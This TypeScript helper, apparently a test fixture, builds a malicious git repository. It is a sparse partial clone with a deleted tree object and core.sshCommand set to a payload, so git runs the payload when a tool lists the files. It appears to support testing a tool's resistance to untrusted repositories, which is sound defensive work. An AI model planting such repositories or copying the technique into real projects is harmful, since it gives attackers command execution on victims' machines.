import { mkdir, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { execa } from "execa";

/**
 * Makes a repository of an attacker's: a partial clone whose index stands for a tree that is missing,
 * which git fetches by running `payload` as soon as it lists the files.
 */
export async function plantPartialClone(root: string, payload: string): Promise<void> {
  const git = async (...args: readonly string[]) =>
    (await execa("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd: root }))
      .stdout;
  await mkdir(join(root, "shown"), { recursive: true });
  await mkdir(join(root, "missing"));
  for (const name of ["shown/file", "missing/file"]) await writeFile(join(root, name), name);
  await git("init", "-q");
  await git("add", "shown", "missing");
  await git("commit", "-q", "-m", "first");
  const tree = await git("rev-parse", "HEAD:missing");
  await git("sparse-checkout", "init", "--cone", "--sparse-index");
  await git("sparse-checkout", "set", "shown");
  await rm(join(root, ".git/objects", tree.slice(0, 2), tree.slice(2)));
  for (const [key, value] of [
    ["core.repositoryFormatVersion", "1"],
    ["extensions.partialClone", "origin"],
    ["remote.origin.promisor", "true"],
    ["remote.origin.url", "nowhere:repository"],
    ["core.sshCommand", payload],
    ["protocol.allow", "always"],
  ] as const)
    await git("config", key, value);
}
